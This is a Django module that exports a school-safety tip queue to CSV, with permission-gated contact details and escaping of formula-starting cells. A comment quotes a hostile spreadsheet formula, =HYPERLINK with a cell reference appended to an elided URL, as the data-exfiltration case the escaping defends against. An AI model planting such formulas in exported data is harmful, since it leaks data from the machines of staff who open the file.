"""The CSV export of the queue: one row per visible tip, with the tipster's contact details
only where the person exporting may see them (``permissions.may_see_contact``, the rule the
tip page uses), and every cell made safe to open in a spreadsheet."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from django.db.models import QuerySet

from reports.models import Routing, Tip
from reports.triage import permissions

COLUMNS = [
    "reference",
    "received (hour)",
    "category",
    "school",
    "state",
    "priority",
    "life safety",
    "awaiting acknowledgement",
    "agencies' parts",
]
CONTACT_COLUMN = "contact details"
# A cell starting with one of these is a formula to Excel, LibreOffice or Google Sheets
# (OWASP, "CSV Injection"), full-width forms included: a tipster's "contact details" of
# =HYPERLINK("https://…?"&A1, "call me") would otherwise run on a staff member's machine.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def spreadsheet_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows as text: a leading ``'`` where it would
    otherwise start a formula (SECURITY.md 38). Leading spaces do not hide a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) or text.lstrip().startswith(FORMULA_START):
        return "'" + text
    return text


@dataclass
class Part:
    """What the export reads of one agency's part of a tip: enough for the permission rule
    (``permissions.RoutingFacts``) and for its cell."""

    agency_id: int
    role: str
    acknowledged_at: object
    text: str


def part(agency: str, role: str, state: str, disposition: str, assignee: str | None) -> str:
    """ "Clayton Police Department (responsible): done, unfounded, assigned to olsen". No
    disposition note or "referred to" text: those stay with the agency (and are free text)."""
    outcome = f", {disposition}" if disposition else ""
    assigned = f", assigned to {assignee}" if assignee else ""
    return f"{agency} ({role}): {state}{outcome}{assigned}"


def _parts_of(tip_ids: list[int]) -> dict[int, list[Part]]:
    """Every agency's part of these tips, in one query, as plain values (no model
    instances): the tip's id → its parts, in the order the tip page lists them."""
    found: dict[int, list[Part]] = {tip_id: [] for tip_id in tip_ids}
    columns = ("tip_id", "agency_id", "role", "acknowledged_at", "agency__name", "state", "disposition")
    parts = (
        Routing.objects.filter(tip_id__in=tip_ids)
        .order_by("role", "agency__name")
        .values_list(*columns, "assigned_to__username")
    )
    for tip_id, agency_id, role, acknowledged_at, agency, state, disposition, assignee in parts:
        found[tip_id].append(Part(agency_id, role, acknowledged_at, part(agency, role, state, disposition, assignee)))
    return found


TIP_COLUMNS = (
    "id",
    "received_at",
    "reference",
    "category__name",
    "school__name",
    "state",
    "priority",
    "is_life_safety",
    "awaiting_acknowledgement",
)
CHUNK = 2000


def rows(tips: QuerySet[Tip], *, staff: permissions.Staff, with_contact: bool) -> Iterator[list[str]]:
    """The header and one row per tip, newest first (by id: the order tips arrived in), read
    in chunks of ``CHUNK`` tips: one query for the tips' columns (``values_list``: no model
    instances, no tip text but the contact details when asked for) and one for their
    agencies' parts. Each chunk starts below the last id of the one before (keyset), which
    PostgreSQL answers by walking the tip and routing indexes backwards together, so
    memory stays flat however many tips there are and no cursor is held open while the file
    downloads. (Keyed by received hour instead, each chunk probed every tip of the period
    for visibility: 175 ms a chunk for an officer at a million tips, against 19.) Notes are
    not exported."""
    yield COLUMNS + ([CONTACT_COLUMN] if with_contact else [])
    columns = TIP_COLUMNS + (("contact_details",) if with_contact else ())
    ordered = tips.order_by("-id").values_list(*columns)
    last_id: int | None = None
    while True:
        page = ordered.filter(id__lt=last_id) if last_id is not None else ordered
        chunk = list(page[:CHUNK])
        if not chunk:
            return
        parts = _parts_of([values[0] for values in chunk])
        for tip_id, received_at, *cells in chunk:
            row: list[object] = [cells[0], received_at.isoformat(), *cells[1:7]]
            row.append("; ".join(p.text for p in parts[tip_id]))
            if with_contact:
                row.append(cells[7] if permissions.may_see_contact(staff, parts[tip_id]) else "")
            yield [spreadsheet_cell(cell) for cell in row]
        if len(chunk) < CHUNK:
            return
        last_id = chunk[-1][0]
